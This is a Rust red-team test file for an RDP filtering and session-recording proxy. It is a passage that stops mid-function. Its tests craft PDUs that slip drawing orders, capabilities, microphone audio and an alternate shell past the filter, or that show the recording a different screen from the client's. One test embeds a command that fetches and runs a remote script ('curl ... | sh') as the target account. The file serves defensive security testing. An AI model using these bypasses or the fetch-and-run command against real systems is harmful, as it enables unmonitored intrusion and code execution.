//! Red team `h-red17e`: attacks on the filter's rules that PASS while each hole is open (the
//! filter forwards what a real peer acts on). Each test names the peer function that reads the
//! bytes differently from the filter.

use super::*;
use ironrdp_pdu::rdp::capability_sets::{
    CapabilitySet, ClientConfirmActive, DemandActive, Order, OrderFlags, OrderSupportExFlags, OrderSupportIndex,
};
use ironrdp_pdu::rdp::headers::{ShareControlHeader, ShareControlPdu};

fn injection() -> Injection {
    Injection { username: "root".into(), domain: Some("TGT".into()), password: "target-secret".into() }
}

/// A filter past the connection sequence on I/O channel 1003; `active`: the target's Demand
/// Active has passed.
fn filter(active: bool) -> Filter {
    let mut f = Filter::new(SecurityProtocol::SSL, Redirection::default(), injection());
    (f.connect_initial_seen, f.client_info_seen, f.io_channel, f.active) = (true, true, Some(1003), active);
    f
}

fn send_data(channel: u16, user_data: Vec<u8>) -> Vec<u8> {
    encode_vec(&X224(SendDataRequest { initiator_id: 1007, channel_id: channel, user_data: Cow::Owned(user_data) }))
        .unwrap()
}

fn send_indication(channel: u16, user_data: Vec<u8>) -> Vec<u8> {
    encode_vec(&X224(SendDataIndication { initiator_id: 1002, channel_id: channel, user_data: Cow::Owned(user_data) }))
        .unwrap()
}

/// One primary drawing order, as a fast-path or slow-path orders update carries it after
/// numberOrders: a DSTBLT (controlFlags TS_STANDARD | TS_TYPE_CHANGE, orderType 0, all five
/// fields) inverting a 64x64 square at the top left (rop 0x55, DSTINVERT). FreeRDP's
/// `update_recv_primary_order` draws it when the client's own OrderSupport[NEG_DSTBLT_INDEX] is
/// on (xfreerdp's default; the box trims only the copy of the caps the target gets). Every byte
/// is below 0x80, so MPPC codes it as itself (see `red17e_compressed_slow_path_orders_pass`).
const DSTBLT: [u8; 12] = [0x09, 0x00, 0x1F, 0x00, 0x00, 0x00, 0x00, 0x40, 0x00, 0x40, 0x00, 0x55];

/// The body of a fast-path orders update: numberOrders (1), then the order.
fn fast_path_orders_body() -> Vec<u8> {
    let mut body = 1u16.to_le_bytes().to_vec();
    body.extend(DSTBLT);
    body
}

/// FreeRDP 2.11 and 3's reading of a fast-path output PDU's updates (`fastpath_recv_updates` /
/// `fastpath_recv_update_data`, libfreerdp/core/fastpath.c): the update header's compression
/// bits (6..8) are compared with FASTPATH_OUTPUT_COMPRESSION_USED (2) for equality, and only
/// then is a compressionFlags byte read; updates are read while 3 bytes remain. Returns each
/// update's code and data.
fn freerdp_fast_path_updates(frame: &[u8]) -> Vec<(u8, Vec<u8>)> {
    let (length, mut at) = crate::decode::fast_path_length(frame).unwrap();
    assert_eq!(length, frame.len());
    let mut updates = Vec::new();
    while frame.len() - at >= 3 {
        let header = frame[at];
        at += 1;
        if (header >> 6) & 0x03 == 2 {
            at += 1;
        }
        let size = usize::from(u16::from_le_bytes([frame[at], frame[at + 1]]));
        at += 2;
        assert!(at + size <= frame.len(), "freerdp would fail the pdu");
        updates.push((header & 0x0F, frame[at..at + size].to_vec()));
        at += size;
    }
    updates
}

/// A fast-path output PDU (header 0x00, two-byte length) holding `body`.
fn fast_path(body: &[u8]) -> Vec<u8> {
    let len = body.len() + 3;
    let mut frame = vec![0x00, 0x80 | u8::try_from(len >> 8).unwrap(), u8::try_from(len & 0xFF).unwrap()];
    frame.extend(body);
    frame
}

/// HOLE (rule 4, fast-path): compression bits 01 in an update header. The filter's
/// `fast_path_orders` skips a compressionFlags byte whenever the bits are not 0
/// (`update >> 6 != 0`); FreeRDP reads one only when they are exactly 2 (FreeRDP 2.11 and 3,
/// `fastpath_recv_update_data`: `if (compression == FASTPATH_OUTPUT_COMPRESSION_USED)`), and so
/// does IronRDP (`FastPathUpdatePdu::decode`: `compression.contains(COMPRESSION_USED)`, 0x2), the
/// decoder's parser. A Synchronize update (FreeRDP ignores its data:
/// `fastpath_recv_update_synchronize` is a SafeSeek) with header 0x43 makes the filter read its
/// size one byte late, as 0xFF00, and walk off the PDU; FreeRDP and IronRDP read the orders
/// update behind it, and the client draws it. The target ends no session and the recording
/// never shows the drawing.
#[test]
fn red17e_fast_path_orders_behind_compression_bits_01_pass() {
    let orders = fast_path_orders_body();
    let mut body = vec![0x43, 0x02, 0x00, 0xFF, 0x00]; // Synchronize, compression 01, size 2
    body.push(0x00); // orders, single fragment, no compression
    body.extend(u16::try_from(orders.len()).unwrap().to_le_bytes());
    body.extend(&orders);
    let frame = fast_path(&body);
    // FreeRDP reads a synchronize, then the DSTBLT.
    let read = freerdp_fast_path_updates(&frame);
    assert_eq!(read, vec![(0x03, vec![0xFF, 0x00]), (0x00, orders.clone())]);
    // IronRDP (the recorder's parser) reads the same two updates.
    let mut cursor = ReadCursor::new(&frame);
    decode_cursor::<ironrdp_pdu::fast_path::FastPathHeader>(&mut cursor).unwrap();
    let first = decode_cursor::<ironrdp_pdu::fast_path::FastPathUpdatePdu<'_>>(&mut cursor).unwrap();
    let second = decode_cursor::<ironrdp_pdu::fast_path::FastPathUpdatePdu<'_>>(&mut cursor).unwrap();
    assert_eq!(first.update_code, ironrdp_pdu::fast_path::UpdateCode::Synchronize);
    assert_eq!(second.update_code, ironrdp_pdu::fast_path::UpdateCode::Orders);
    assert_eq!(second.data, &orders[..]);
    // The filter passes it.
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
    // Control: the same orders update alone is refused.
    let mut alone = vec![0x00];
    alone.extend(u16::try_from(orders.len()).unwrap().to_le_bytes());
    alone.extend(&orders);
    assert_eq!(filter(true).from_target(&fast_path(&alone)).unwrap(), Verdict::Refuse(ORDERS));
}

/// HOLE (rule 4, fast-path): compression bits 11. The filter (and IronRDP, which tests the 0x2
/// bit) read a compressionFlags byte; FreeRDP does not (`fastpath_recv_update_data` compares the
/// bits with 2 for equality). After a Synchronize header 0xC3 come [0x01, 0x00, 0x10]: FreeRDP
/// reads size 1 (data 0x10, ignored by `fastpath_recv_update_synchronize`) and then the orders
/// update; the filter reads compressionFlags 0x01 and size 0x1000, past the PDU's end, and stops
/// walking without refusing. The client draws the DSTBLT; the recorder (IronRDP reads it as the
/// filter does, a truncated Synchronize) never sees it.
#[test]
fn red17e_fast_path_orders_behind_compression_bits_11_pass() {
    let orders = fast_path_orders_body();
    let mut body = vec![0xC3, 0x01, 0x00, 0x10];
    body.push(0x00); // orders, single fragment, no compression
    body.extend(u16::try_from(orders.len()).unwrap().to_le_bytes());
    body.extend(&orders);
    let frame = fast_path(&body);
    let read = freerdp_fast_path_updates(&frame);
    assert_eq!(read, vec![(0x03, vec![0x10]), (0x00, orders)]);
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
}

/// HOLE (rule 4, slow-path): drawing orders in a bulk-compressed Update PDU. `slow_path_orders`
/// looks only at uncompressed Share Data PDUs; the box asked the target for no compression (the
/// Client Info it forwards), but the client still decompresses whatever arrives: FreeRDP 2.11
/// and 3 `rdp_recv_data_pdu` run `bulk_decompress` on every Data PDU with PACKET_COMPRESSED in
/// its compressedType (any of MPPC 8K/64K, NCRUSH, XCRUSH, by its type bits, history or not),
/// then `update_recv` → `update_recv_orders` draws them. MPPC codes each byte below 0x80 as
/// itself, so "compressing" the update is copying it. The recorder has no decompressor (the
/// decoder took `compression: None` from the rewritten Client Info) and cannot see the orders.
#[test]
fn red17e_compressed_slow_path_orders_pass() {
    const PACKET_COMPRESSED: u8 = 0x20;
    // updateType ORDERS, pad2OctetsA, numberOrders 1, pad2OctetsB, then the DSTBLT.
    let mut update = vec![0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00];
    update.extend(DSTBLT);
    assert!(update.iter().all(|&b| b < 0x80), "MPPC literals code as themselves");
    let compressed = update.clone();
    // A real MPPC decompressor (RDP4, 8K history) gives back the orders update.
    let mut bulk = ironrdp_bulk::BulkCompressor::new(ironrdp_bulk::CompressionType::Rdp4);
    assert_eq!(bulk.decompress(&compressed, u32::from(PACKET_COMPRESSED)).unwrap(), &update[..]);
    // Share Control header (data PDU), Share Data header: shareId, pad1, streamId,
    // uncompressedLength, pduType2 UPDATE, compressedType PACKET_COMPRESSED | 8K,
    // compressedLength (18 + the compressed bytes, as `rdp_recv_data_pdu` reads it).
    let total = 18 + compressed.len();
    let mut pdu = u16::try_from(total).unwrap().to_le_bytes().to_vec();
    pdu.extend(0x0017u16.to_le_bytes());
    pdu.extend(1002u16.to_le_bytes());
    pdu.extend(0x0001_03EAu32.to_le_bytes());
    pdu.extend([0x00, 0x01]);
    pdu.extend(u16::try_from(4 + update.len()).unwrap().to_le_bytes());
    pdu.extend([0x02, PACKET_COMPRESSED]);
    pdu.extend(u16::try_from(18 + compressed.len()).unwrap().to_le_bytes());
    pdu.extend(&compressed);
    let frame = send_indication(1003, pdu.clone());
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
    // Control: the same PDU uncompressed is refused.
    let mut plain = pdu;
    plain[15] = 0;
    assert_eq!(filter(true).from_target(&send_indication(1003, plain)).unwrap(), Verdict::Refuse(ORDERS));
}

/// A client Confirm Active offering DSTBLT, MEMBLT and glyph orders, as IronRDP encodes it.
fn confirm_active_with_orders() -> Vec<u8> {
    confirm_active_with_orders_from("MSTSC")
}

/// The same with `source` as its source descriptor (which sets its length).
fn confirm_active_with_orders_from(source: &str) -> Vec<u8> {
    let mut order =
        Order::new(OrderFlags::NEGOTIATE_ORDER_SUPPORT, OrderSupportExFlags::CACHE_BITMAP_REV3_SUPPORT, 480 * 480, 0);
    for i in [OrderSupportIndex::DstBlt, OrderSupportIndex::MemBlt, OrderSupportIndex::FastGlyph] {
        order.set_support_flag(i, true);
    }
    let confirm = ClientConfirmActive {
        originator_id: 1002,
        pdu: DemandActive { source_descriptor: source.into(), capability_sets: vec![CapabilitySet::Order(order)] },
    };
    let header = ShareControlHeader {
        share_control_pdu: ShareControlPdu::ClientConfirmActive(confirm),
        pdu_source: 1007,
        share_id: 0x1_03EA,
    };
    encode_vec(&header).unwrap()
}

/// Whether `share` (a Share Control PDU) is a Confirm Active still offering DSTBLT.
fn offers_orders(share: &[u8]) -> bool {
    let Ok(header) = decode::<ShareControlHeader>(share) else { return false };
    let ShareControlPdu::ClientConfirmActive(confirm) = header.share_control_pdu else { return false };
    confirm.pdu.capability_sets.into_iter().any(|c| match c {
        CapabilitySet::Order(mut o) => o.get_support_flag(OrderSupportIndex::DstBlt),
        _ => false,
    })
}

/// xrdp 0.9.21 (the e2e target) reading a client Send Data Request's user data on channel 1003
/// while it still expects security headers (from the Client Info until the licence answer:
/// `is_security_header_present`): `xrdp_sec_recv` reads flags and flagsHi as one 32-bit value
/// and acts only on SEC_ENCRYPT, SEC_CLIENT_RANDOM, SEC_LOGON_INFO and SEC_LICENCE_NEG; with
/// none of them it returns 0 on channel 1003, and `xrdp_rdp_recv` reads a Share Control PDU
/// right after the 4-byte header, which `libxrdp_process_data` hands to
/// `xrdp_caps_process_confirm_active` whatever the connection state. Returns that PDU.
fn xrdp_share_pdu_after_security_header(data: &[u8]) -> Option<&[u8]> {
    const ACTED_ON: u32 = 0x08 | 0x01 | 0x40 | 0x80;
    let flags = u32::from_le_bytes(data.get(..4)?.try_into().ok()?);
    (flags & ACTED_ON == 0).then(|| &data[4..])
}

/// HOLE (rule 2): the security header flags the rule lets through carry a Share Control PDU to
/// xrdp. TRANSPORT_RSP (0x0004) and AUTODETECT_RSP (0x2000) are allowed alone before activation,
/// but xrdp 0.9.21's `xrdp_sec_recv` has no branch for either: it returns 0 and
/// `xrdp_rdp_recv` reads the Share Control PDU behind the header — here a Confirm Active with
/// drawing orders, which reaches xrdp untrimmed (`trim_capabilities` never runs: the filter
/// forwards the frame as it is). The client simply sends no Confirm Active of its own after the
/// Demand Active (xrdp keeps the capabilities of the last one it processed).
#[test]
fn red17e_confirm_active_behind_a_response_header_reaches_xrdp_untrimmed() {
    for flags in [0x0004u16, 0x2000] {
        let mut data = flags.to_le_bytes().to_vec();
        data.extend([0, 0]);
        data.extend(confirm_active_with_orders());
        let share = xrdp_share_pdu_after_security_header(&data).expect("xrdp reads past the header");
        assert!(offers_orders(share), "xrdp processes a confirm active with orders");
        let frame = send_data(1003, data);
        assert_eq!(filter(false).from_client(&frame).unwrap(), Verdict::Forward, "{flags:#x}");
    }
    // Control: the same Confirm Active bare is trimmed (after activation: before it, its
    // totalLength happens to hold the INFO_PKT bit and the filter takes it for a Client Info).
    let verdict = filter(true).from_client(&send_data(1003, confirm_active_with_orders())).unwrap();
    let Verdict::Replace(out) = verdict else { panic!("not trimmed: {verdict:?}") };
    let X224(McsMessage::SendDataRequest(req)) = decode::<X224<McsMessage<'_>>>(&out).unwrap() else { panic!() };
    assert!(!offers_orders(&req.user_data));
}

/// HOLE (rule 2): a security header with flagsHi set. `security_flags` reads a header only when
/// flagsHi is 0, so [00 00 00 01] is taken for a Share Control PDU of totalLength 0 and type 0;
/// `share_pdus` stops at once and, before activation, an unreadable client message is forwarded.
/// xrdp reads flags and flagsHi as one u32 (0x01000000: no bit it acts on) and reads the Confirm
/// Active behind it, as above.
#[test]
fn red17e_confirm_active_behind_a_flags_hi_header_reaches_xrdp_untrimmed() {
    let mut data = vec![0x00, 0x00, 0x00, 0x01];
    data.extend(confirm_active_with_orders());
    assert!(offers_orders(xrdp_share_pdu_after_security_header(&data).unwrap()));
    assert_eq!(filter(false).from_client(&send_data(1003, data)).unwrap(), Verdict::Forward);
}

/// A fast-path Bitmap update body (updateType BITMAP, one rectangle) of an uncompressed 8x8
/// square at 32 bpp, every pixel `bgrx`, with its top left at (`x`, `y`).
fn bitmap_update(x: u16, y: u16, bgrx: [u8; 4]) -> Vec<u8> {
    let mut data = 1u16.to_le_bytes().to_vec(); // updateType BITMAP
    data.extend(1u16.to_le_bytes()); // numberRectangles
    for v in [x, y, x + 7, y + 7, 8, 8, 32, 0, 256] {
        data.extend(v.to_le_bytes()); // dest rectangle, width, height, bpp, flags, bitmapLength
    }
    for _ in 0..64 {
        data.extend(bgrx);
    }
    data
}

/// HOLE (recorder, fast-path): with compression bits 11 the recorder's parser (IronRDP's
/// `FastPathUpdatePdu::decode`, which tests the 0x2 bit) and the filter read a compressionFlags
/// byte that FreeRDP's `fastpath_recv_update_data` (bits == 2 only) does not, so from the first
/// update on they walk different updates of the same PDU. A target shows the client one bitmap
/// (red) while the recording draws another (green) in the same place; nothing is counted as a
/// gap, the filter forwards the PDU.
///
/// Layout after the fast-path header: a Synchronize header 0xC3, then [0x01, 0x00, 0x02].
///   FreeRDP: size 1 (data 0x02), then the red bitmap update, then a Synchronize update whose
///   data runs to the end of the PDU (ignored: `fastpath_recv_update_synchronize`).
///   IronRDP: compressionFlags 0x01 (empty flags, type 64K: no decompression), size 0x0200: it
///   skips 512 bytes holding the red update, then reads the green bitmap update.
#[test]
fn red17e_the_client_sees_one_bitmap_and_the_recording_another() {
    const RED: [u8; 4] = [0, 0, 255, 0];
    const GREEN: [u8; 4] = [0, 255, 0, 0];
    let red = bitmap_update(0, 0, RED);
    let green = bitmap_update(0, 0, GREEN);
    let mut body = vec![0xC3, 0x01, 0x00, 0x02];
    let ironrdp_skip_starts = body.len();
    body.push(0x01); // bitmap, single, no compression
    body.extend(u16::try_from(red.len()).unwrap().to_le_bytes());
    body.extend(&red);
    // FreeRDP's trailing Synchronize: its data covers the rest of IronRDP's 512 bytes and the
    // green update.
    let sync_data = 512 - (body.len() - ironrdp_skip_starts) - 3 + 3 + green.len();
    body.push(0x03);
    body.extend(u16::try_from(sync_data).unwrap().to_le_bytes());
    body.resize(ironrdp_skip_starts + 512, 0);
    body.push(0x01);
    body.extend(u16::try_from(green.len()).unwrap().to_le_bytes());
    body.extend(&green);
    let frame = fast_path(&body);

    // What FreeRDP reads: the red bitmap, no green one.
    let updates = freerdp_fast_path_updates(&frame);
    let codes: Vec<u8> = updates.iter().map(|u| u.0).collect();
    assert_eq!(codes, vec![0x03, 0x01, 0x03]);
    assert_eq!(updates[1].1, red);

    // The filter forwards it.
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);

    // The recorder, past a real session's activation (freerdp-shadow's planar capture), draws
    // the green square and never the red one.
    let mut decoder = crate::decode::PassiveDecoder::new();
    for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
        match tag {
            b'C' => decoder.observe_client(pdu).unwrap(),
            b'T' => drop(decoder.observe_target(pdu).unwrap()),
            _ => {}
        }
    }
    let pixel = |d: &crate::decode::PassiveDecoder| {
        let s = d.screen().unwrap();
        let at = 4 * s.stride + 4 * 4;
        [s.bgrx[at], s.bgrx[at + 1], s.bgrx[at + 2]]
    };
    assert_ne!(pixel(&decoder), [0, 255, 0], "already green");
    let updates = decoder.observe_target(&frame).unwrap();
    assert!(updates.iter().any(|u| matches!(u, crate::decode::Update::Frame { .. })), "{updates:?}");
    assert_eq!(pixel(&decoder), [0, 255, 0], "the recording shows green");
}

/// HOLE (Client Info rewrite): the client's alternate shell and working directory survive the
/// rewrite (`Filter::inject` replaces only the credential, the cookie and two flags). xfreerdp
/// sets them with `/shell:` and `/shell-dir:`; xrdp 0.9.21 reads them
/// (`xrdp_sec_process_logon_info`: cbAlternateShell) and sesman starts a new session with the
/// program instead of the desktop, through `sh -c` when it holds a space (sesman/session.c,
/// "Starting user requested window manager ... using a shell"). With the injected credential,
/// the box user runs any command line as the target account and nothing of it is on the screen
/// the box records (the session shows only what the command draws, here nothing), in the keys
/// log, or in an audit event.
#[test]
fn red17e_the_client_info_alternate_shell_runs_on_the_target() {
    use ironrdp_pdu::rdp::client_info::{AddressFamily, ClientInfo, ExtendedClientInfo, ExtendedClientOptionalInfo};
    use ironrdp_pdu::rdp::headers::BasicSecurityHeader;
    let command = "sh -c 'curl -s http://10.0.0.9/x | sh; sleep 3600'";
    let pdu = ClientInfoPdu {
        security_header: BasicSecurityHeader { flags: BasicSecurityHeaderFlags::INFO_PKT },
        client_info: ClientInfo {
            credentials: Credentials { username: "alice".into(), password: "box-password".into(), domain: None },
            password_cookie: None,
            code_page: 0,
            flags: ClientInfoFlags::MOUSE | ClientInfoFlags::UNICODE,
            compression_type: CompressionType::K8,
            alternate_shell: command.into(),
            work_dir: "/tmp".into(),
            extra_info: ExtendedClientInfo {
                address_family: AddressFamily::INET,
                address: "127.0.0.1".into(),
                dir: "C:\\".into(),
                optional_data: ExtendedClientOptionalInfo::default(),
            },
        },
    };
    let mut f = Filter::new(SecurityProtocol::SSL, Redirection::default(), injection());
    (f.connect_initial_seen, f.io_channel) = (true, Some(1003));
    let Verdict::Replace(out) = f.from_client(&send_data(1003, encode_vec(&pdu).unwrap())).unwrap() else {
        panic!("client info not rewritten")
    };
    let X224(McsMessage::SendDataRequest(req)) = decode::<X224<McsMessage<'_>>>(&out).unwrap() else { panic!() };
    let info = decode::<ClientInfoPdu>(&req.user_data).unwrap().client_info;
    // The target gets its own credential with auto-logon, and the user's command line.
    assert_eq!(info.credentials.username, "root");
    assert!(info.flags.contains(ClientInfoFlags::AUTOLOGON));
    assert_eq!(info.alternate_shell, command);
    assert_eq!(info.work_dir, "/tmp");
}

/// HOLE (channels): the microphone over `rdpsnd` on xrdp. `rdpsnd` is open on every grant (it
/// "carries no redirection": sound out), but xrdp's chansrv also takes audio input on it, with
/// its own message types (sesman/chansrv/sound.h: SNDC_REC_NEGOTIATE 39 ... SNDC_REC_DATA 42):
/// `sound_process_input_formats` sets `g_rdpsnd_can_rec` when a client sends
/// SNDC_REC_NEGOTIATE, a session application opening the microphone then gets
/// `sound_input_start_recording` (SNDC_REC_START to the client) instead of the AUDIO_INPUT
/// dynamic channel (`audin_start`), and `sound_process_input_data` feeds every SNDC_REC_DATA into
/// the session's audio source. On a grant without `--audio-input` (AUDIO_INPUT refused) the
/// client's audio still reaches the target.
#[test]
fn red17e_microphone_audio_crosses_on_rdpsnd_without_the_audio_input_switch() {
    let grant = Redirection::default();
    assert!(!channels::dynamic_allowed(grant, b"AUDIO_INPUT\0"), "control: the dynamic channel is refused");
    let mut f = filter(true);
    f.redirection = grant;
    f.decisions = vec![ChannelDecision {
        name: "rdpsnd".into(),
        id: 1005,
        allowed: channels::static_allowed(grant, b"rdpsnd\0\0"),
    }];
    let rdpsnd = |msg_type: u8, body: &[u8]| {
        let mut pdu = vec![msg_type, 0];
        pdu.extend(u16::try_from(body.len()).unwrap().to_le_bytes());
        pdu.extend(body);
        let mut chunk = u32::try_from(pdu.len()).unwrap().to_le_bytes().to_vec();
        chunk.extend(3u32.to_le_bytes()); // CHANNEL_FLAG_FIRST | CHANNEL_FLAG_LAST
        chunk.extend(pdu);
        chunk
    };
    // SNDC_REC_NEGOTIATE: 8 bytes xrdp skips, one format (PCM, mono, 22050 Hz, 16 bit).
    let mut negotiate = vec![0u8; 8];
    negotiate.extend(1u16.to_le_bytes());
    negotiate.extend(1u16.to_le_bytes());
    for v in [1u16, 1] {
        negotiate.extend(v.to_le_bytes());
    }
    negotiate.extend(22050u32.to_le_bytes());
    negotiate.extend(44100u32.to_le_bytes());
    for v in [2u16, 16, 0] {
        negotiate.extend(v.to_le_bytes());
    }
    let samples = [0x11u8; 64]; // SNDC_REC_DATA: PCM from the client's microphone
    for pdu in [rdpsnd(39, &negotiate), rdpsnd(42, &samples)] {
        assert_eq!(f.from_client(&send_data(1005, pdu)).unwrap(), Verdict::Forward);
    }
    // And the target's SNDC_REC_START reaches the client.
    assert_eq!(f.from_target(&send_indication(1005, rdpsnd(40, &[0; 4]))).unwrap(), Verdict::Forward);
}

/// FreeRDP 2.11 and 3's reading of a Bitmap update's rectangles (`update_read_bitmap_update` →
/// `update_read_bitmap_data`, libfreerdp/core/update.c): with BITMAP_COMPRESSION and a
/// compression header, the data read is `cbCompMainBodySize` bytes
/// (`bitmapData->bitmapLength = bitmapData->cbCompMainBodySize`), whatever bitmapLength said.
/// Returns each rectangle's left, top, flags and data.
fn freerdp_bitmap_rectangles(update: &[u8]) -> Vec<(u16, u16, u16, Vec<u8>)> {
    let u16_at = |at: usize| u16::from_le_bytes([update[at], update[at + 1]]);
    assert_eq!(u16_at(0), 1, "updateType BITMAP");
    let mut at = 4;
    let mut rects = Vec::new();
    for _ in 0..u16_at(2) {
        let (left, top, flags) = (u16_at(at), u16_at(at + 2), u16_at(at + 14));
        let mut length = usize::from(u16_at(at + 16));
        at += 18;
        if flags & 0x0001 != 0 && flags & 0x0400 == 0 {
            length = usize::from(u16_at(at + 2)); // cbCompMainBodySize
            at += 8;
        }
        rects.push((left, top, flags, update[at..at + length].to_vec()));
        at += length;
    }
    rects
}

/// HOLE (recorder): a compressed bitmap rectangle's length. FreeRDP reads `cbCompMainBodySize`
/// bytes of a rectangle with a compression header; IronRDP (`BitmapData::decode`, the recorder's
/// parser) reads `bitmapLength` - 8. A target states a bitmapLength that also covers the next
/// rectangle FreeRDP reads: FreeRDP draws two red squares (an RDP6 planar one, then a raw one);
/// the recorder takes both as the first rectangle's data and draws the second rectangle it
/// reads, a green square the client never sees. An ordinary Bitmap update, nothing for the
/// filter to judge; nothing counted as a gap.
#[test]
fn red17e_a_compressed_rectangle_length_shows_the_recording_another_bitmap() {
    const RED: [u8; 4] = [0, 0, 255, 0];
    const GREEN: [u8; 4] = [0, 255, 0, 0];
    // An 8x8 RDP6 planar stream (FreeRDP `planar_decompress`): FormatHeader NA (no alpha, raw,
    // RGB), the R, G and B planes, a pad byte.
    let mut planar = vec![0x20];
    for value in [255u8, 0, 0] {
        planar.extend([value; 64]);
    }
    planar.push(0);
    // The raw red square FreeRDP reads second, and the green one the recorder reads second.
    let raw = |bgrx: [u8; 4]| {
        let mut r = Vec::new();
        for v in [0u16, 0, 7, 7, 8, 8, 32, 0, 256] {
            r.extend(v.to_le_bytes());
        }
        for _ in 0..64 {
            r.extend(bgrx);
        }
        r
    };
    let (red_raw, green_raw) = (raw(RED), raw(GREEN));
    let mut update = 1u16.to_le_bytes().to_vec(); // updateType BITMAP
    update.extend(2u16.to_le_bytes()); // numberRectangles
    // Rectangle 1: BITMAP_COMPRESSION with a TS_CD_HEADER. bitmapLength: the header, the planar
    // stream and FreeRDP's second rectangle; cbCompMainBodySize: the planar stream alone.
    let bitmap_length = 8 + planar.len() + red_raw.len();
    for v in [0u16, 0, 7, 7, 8, 8, 32, 0x0001, u16::try_from(bitmap_length).unwrap()] {
        update.extend(v.to_le_bytes());
    }
    for v in [0u16, u16::try_from(planar.len()).unwrap(), 32, 256] {
        update.extend(v.to_le_bytes()); // cbCompFirstRowSize, cbCompMainBodySize, cbScanWidth, size
    }
    update.extend(&planar);
    update.extend(&red_raw);
    update.extend(&green_raw);

    // FreeRDP: a planar red square, then the raw red square; the green bytes are never read.
    let rects = freerdp_bitmap_rectangles(&update);
    assert_eq!(rects.len(), 2);
    assert_eq!((rects[0].2, &rects[0].3), (0x0001, &planar));
    assert_eq!((rects[1].2, &rects[1].3[..]), (0, &red_raw[18..]));

    let mut body = vec![0x01];
    body.extend(u16::try_from(update.len()).unwrap().to_le_bytes());
    body.extend(&update);
    let frame = fast_path(&body);
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);

    // The recorder draws green where the client shows red.
    let mut decoder = crate::decode::PassiveDecoder::new();
    for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
        match tag {
            b'C' => decoder.observe_client(pdu).unwrap(),
            b'T' => drop(decoder.observe_target(pdu).unwrap()),
            _ => {}
        }
    }
    let updates = decoder.observe_target(&frame).unwrap();
    assert!(updates.iter().any(|u| matches!(u, crate::decode::Update::Frame { .. })), "{updates:?}");
    let s = decoder.screen().unwrap();
    let at = 4 * s.stride + 4 * 4;
    assert_eq!([s.bgrx[at], s.bgrx[at + 1], s.bgrx[at + 2]], [0, 255, 0], "the recording shows green");
}

/// HOLE (recorder, next to the known reactivation hole but a different window): slow-path
/// bitmaps after a Deactivate All, before any Demand Active. FreeRDP 2.11's
/// `rdp_recv_deactivate_all` moves the client to CONNECTION_STATE_CAPABILITIES_EXCHANGE and
/// keeps reading; there `rdp_client_connect_demand_active` hands every PDU that is not a Demand
/// Active to `rdp_recv_out_of_sequence_pdu`, which gives a Data PDU to `rdp_recv_data_pdu` →
/// `update_recv` → the bitmap is drawn (FreeRDP 3 the same way). The decoder's `Deactivated`
/// phase passes such a PDU over without a word: no frame, no error, no gap. A target can
/// deactivate once and draw for the rest of the session unrecorded.
#[test]
fn red17e_slow_path_bitmaps_after_deactivate_all_are_not_recorded() {
    let mut decoder = crate::decode::PassiveDecoder::new();
    for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
        match tag {
            b'C' => decoder.observe_client(pdu).unwrap(),
            b'T' => drop(decoder.observe_target(pdu).unwrap()),
            _ => {}
        }
    }
    let ids = decoder.session_ids().expect("active");
    let share = |body: &[u8], kind: u16| {
        let mut pdu = u16::try_from(6 + body.len()).unwrap().to_le_bytes().to_vec();
        pdu.extend(kind.to_le_bytes());
        pdu.extend(1002u16.to_le_bytes());
        pdu.extend(body);
        send_indication(ids.io_channel_id, pdu)
    };
    // Deactivate All: shareId, lengthSourceDescriptor 1, sourceDescriptor.
    let mut deactivate = ids.share_id.to_le_bytes().to_vec();
    deactivate.extend([1, 0, 0]);
    let deactivate = share(&deactivate, 0x0016);
    // A Data PDU, Update BITMAP: the green 8x8 square at (0, 0).
    let update = bitmap_update(0, 0, [0, 255, 0, 0]);
    let mut data = ids.share_id.to_le_bytes().to_vec();
    data.extend([0, 1]); // pad1, streamId STREAM_LOW
    data.extend(u16::try_from(4 + update.len()).unwrap().to_le_bytes());
    data.extend([0x02, 0]); // pduType2 UPDATE, no compression
    data.extend(0u16.to_le_bytes());
    data.extend(&update);
    let bitmap = share(&data, 0x0017);

    let mut f = filter(true);
    f.io_channel = Some(ids.io_channel_id);
    assert_eq!(f.from_target(&deactivate).unwrap(), Verdict::Forward);
    assert_eq!(f.from_target(&bitmap).unwrap(), Verdict::Forward);

    let pixel = |d: &crate::decode::PassiveDecoder| {
        let s = d.screen().unwrap();
        let at = 4 * s.stride + 4 * 4;
        [s.bgrx[at], s.bgrx[at + 1], s.bgrx[at + 2]]
    };
    let before = pixel(&decoder);
    assert_ne!(before, [0, 255, 0]);
    // Control: without the Deactivate All the decoder draws the same PDU.
    let mut control = crate::decode::PassiveDecoder::new();
    for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
        match tag {
            b'C' => control.observe_client(pdu).unwrap(),
            b'T' => drop(control.observe_target(pdu).unwrap()),
            _ => {}
        }
    }
    control.observe_target(&bitmap).unwrap();
    assert_eq!(pixel(&control), [0, 255, 0], "control: the bitmap is decodable");
    decoder.observe_target(&deactivate).unwrap();
    let updates = decoder.observe_target(&bitmap).expect("no error: nothing is counted");
    assert!(updates.is_empty(), "{updates:?}");
    assert_eq!(pixel(&decoder), before, "the recording never shows the green square");
}

/// A fast-path Bitmap update of one 8x8 rectangle at (0, 0) in RDP6 planar (32 bpp,
/// BITMAP_COMPRESSION with a TS_CD_HEADER whose cbScanWidth is `scan_width`), every pixel red.
fn planar_red_update(scan_width: u16) -> Vec<u8> {
    let mut planar = vec![0x20]; // FormatHeader: no alpha, raw planes, RGB
    for value in [255u8, 0, 0] {
        planar.extend([value; 64]);
    }
    planar.push(0); // pad
    let mut update = 1u16.to_le_bytes().to_vec();
    update.extend(1u16.to_le_bytes());
    for v in [0u16, 0, 7, 7, 8, 8, 32, 0x0001, u16::try_from(8 + planar.len()).unwrap()] {
        update.extend(v.to_le_bytes());
    }
    for v in [0u16, u16::try_from(planar.len()).unwrap(), scan_width, 256] {
        update.extend(v.to_le_bytes());
    }
    update.extend(&planar);
    let mut body = vec![0x01];
    body.extend(u16::try_from(update.len()).unwrap().to_le_bytes());
    body.extend(&update);
